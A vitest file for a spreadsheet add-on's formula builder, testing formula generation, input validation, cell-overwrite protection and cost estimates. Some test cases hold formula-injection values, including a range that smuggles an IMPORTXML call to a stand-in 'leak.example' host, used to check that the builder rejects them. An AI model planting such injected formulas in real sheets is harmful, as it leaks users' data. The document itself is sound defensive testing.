import { expect, test } from 'vitest';
import { type BuilderChoice, builderFormulas, buildFormula } from '../../../addon/formulas/builder/formula-builder.ts';
import { readFormula } from '../harness/formula-syntax.ts';
import { people, setKey, setUpAddon } from '../spreadsheet-setup.ts';

const setup = setUpAddon();
const [ada = '', ben = ''] = Object.keys(people);
const choice: BuilderChoice = {
  ...{ name: 'SOCIAL_PROFILE', area: { sheet: 'Sheet1', a1: 'A2:A3' }, ticked: ['followers', 'posts'], limit: '' },
  ...{ days: '', campaign: 'c1', section: 'totals', max_age: '1d', platform: '' },
};

test.each([
  [{}, '=SOCIAL_PROFILE(A2:A3; "followers,posts")'],
  [{ max_age: '7d' }, '=SOCIAL_PROFILE(A2:A3; "followers,posts"; "7d")'],
  [{ area: { sheet: "Ann's list", a1: 'B2' } }, `=SOCIAL_PROFILE('Ann''s list'!B2; "followers,posts")`],
  [{ name: 'SOCIAL_POSTS', ticked: ['likes'], limit: '10' }, '=SOCIAL_POSTS(A2:A3; 10; "likes")'],
  [{ name: 'SOCIAL_POSTS', ticked: ['likes'] }, '=SOCIAL_POSTS(A2:A3; ; "likes")'],
  [{ name: 'SOCIAL_TRACKED', ticked: ['views'], days: '30' }, '=SOCIAL_TRACKED(A2:A3; "views"; 30)'],
  [{ name: 'SOCIAL_REPORT', campaign: 'Say "hi"', section: 'items' }, '=SOCIAL_REPORT("Say ""hi"""; "items")'],
  [{ name: 'SOCIAL_CREDITS' }, '=SOCIAL_CREDITS()'],
  [{ platform: 'tiktok' }, '=SOCIAL_PROFILE(A2:A3; "followers,posts"; ; "tiktok")'],
])('a choice is a formula with semicolons, which every locale accepts: %j', (change, formula) => {
  expect(buildFormula({ ...choice, ...change }, 'Sheet1')).toEqual({ formula });
  readFormula(formula);
});

test.each([
  [{ name: 'IMPORTXML' }, 'function'],
  [{ area: null }, 'Select the cells'],
  [{ area: { sheet: 'Sheet1', a1: 'A2;IMPORTXML("http://leak.example")' } }, 'Select the cells'],
  [{ ticked: ['secret"'] }, 'at least one column'],
  [{ name: 'SOCIAL_POSTS', ticked: ['likes'], limit: '21' }, 'from 1 to 20'],
  [{ name: 'SOCIAL_TRACKED', ticked: ['views'], days: '1)+1' }, 'from 1 to 365'],
  [{ name: 'SOCIAL_REPORT', campaign: '' }, 'campaign'],
  [{ name: 'SOCIAL_REPORT', section: 'x' }, 'section'],
  [{ max_age: '"&A1&"' }, 'age'],
  [{ platform: 'photo"' }, 'platform'],
])('a missing or invalid choice is a sentence and never part of a formula: %j', (change, words) => {
  expect(buildFormula({ ...choice, ...change }, 'Sheet1')).toEqual({ missing: expect.stringContaining(words) });
});

test('the formula builder offers every formula of the add-on', async () => {
  const file = await setup.open();
  const formulas = file.callable.filter((name) => name.startsWith('SOCIAL_'));
  expect(builderFormulas.map(({ name }) => name).sort()).toEqual(formulas.sort());
});

test('the formula builder writes a formula that runs into the selected cell, below its headings', async () => {
  const file = await setup.open();
  setKey(file);
  file.type('A2', ada, ben);
  file.select('C2');
  expect(file.run('sidebarInsertFormula', [choice])).toEqual({ ok: true, message: 'The formula is in C2.' });
  expect(file.values('C1:E3')).toEqual([
    ['Status', 'Followers', 'Posts'],
    ['OK', 1_200, 34],
    ['OK', 5_400_000, ''],
  ]);
});

test('the formula builder refuses to write a formula whose result would overwrite a filled cell, and names the cell', async () => {
  const file = await setup.open();
  file.type('A2', ada, ben);
  file.type('E3', 'mine');
  file.select('C2');
  expect(file.run('sidebarInsertFormula', [choice])).toEqual({
    ok: false,
    message: 'The result needs C2:E3, and E3 is not empty. Select a cell with empty cells to its right and below.',
  });
  expect(Object.keys(file.sheet()).sort()).toEqual(['A2', 'A3', 'E3']);
});

test('the formula builder keeps used cells in place of headings, and says so', async () => {
  const file = await setup.open();
  setKey(file);
  file.type('A2', ada, ben);
  file.type('D1', 'mine');
  file.select('C2');
  expect(file.run('sidebarInsertFormula', [choice])).toMatchObject({
    ok: true,
    message: expect.stringContaining('no space for headings'),
  });
  expect(file.values('C1:E1')).toEqual([['', 'mine', '']]);
});

test('the formula builder does not write a formula into a used cell or a cell that the formula reads', async () => {
  const file = await setup.open();
  file.type('A2', ada);
  file.type('B2', 'mine');
  for (const [cell, words] of [
    ['B2', 'not empty'],
    ['A3', 'reads'],
  ] as const) {
    file.select(cell);
    expect(file.run('sidebarInsertFormula', [choice])).toMatchObject({
      ok: false,
      message: expect.stringContaining(words),
    });
  }
  file.select('C2');
  const refresh = { ...choice, max_age: 'SOCIAL_REFRESH' };
  expect(file.run('sidebarInsertFormula', [refresh])).toMatchObject({
    ok: false,
    message: expect.stringContaining('menu'),
  });
  expect(Object.keys(file.sheet()).sort()).toEqual(['A2', 'B2']);
});

test('the cost estimate of a formula counts paid rows and unreadable cells, and costs nothing', async () => {
  const file = await setup.open();
  setKey(file);
  file.type('A2', ada, ben, '', 'not a profile', ada);
  file.cell('SOCIAL_PROFILE', [ada, 'posts']);
  const area = { sheet: 'Sheet1', a1: 'A2:A6' };
  expect(file.run('sidebarEstimate', ['1d', area])).toEqual({
    ...{ ok: true, rows: 3, cost_min: 1, cost_max: 1, cached_rows: 1, unreadable_rows: 1, note: null },
  });
  expect((await setup.api.log()).credits_charged).toBe(1);
});

test('the cost estimate of posts sends one request for each of some profiles, and assumes the highest cost for the rest', async () => {
  const file = await setup.open();
  setKey(file);
  file.type('A2', ada, ben);
  const area = { sheet: 'Sheet1', a1: 'A2:A3' };
  expect(file.run('sidebarEstimate', ['1d', area, 'SOCIAL_POSTS', '5'])).toMatchObject({ ok: true, rows: 2 });
  const sent = (await setup.api.log()).requests.filter(({ path }) => path === '/v1/workflows/posts');
  expect(sent).toHaveLength(2);
  await setup.api.begin({
    answers: [
      { status: 502, body: '' },
      { status: 502, body: '' },
    ],
  });
  expect(file.run('sidebarEstimate', ['1d', area, 'SOCIAL_POSTS', ''])).toMatchObject({ cost_min: 0, cost_max: 8 });
  expect(file.run('sidebarEstimate', ['1d', area, 'SOCIAL_CREDITS', ''])).toMatchObject({ ok: false });
});

test('the cost estimate shows the highest possible cost and a note when the server does not answer', async () => {
  const file = await setup.open();
  setKey(file);
  file.type('A2', ada, ben);
  await setup.api.begin({ answers: [{ status: 502, body: '' }] });
  expect(file.run('sidebarEstimate', ['1d', { sheet: 'Sheet1', a1: 'A2:A3' }])).toMatchObject({
    ...{ cost_min: 0, cost_max: 2, note: expect.stringContaining('cannot answer') },
  });
});
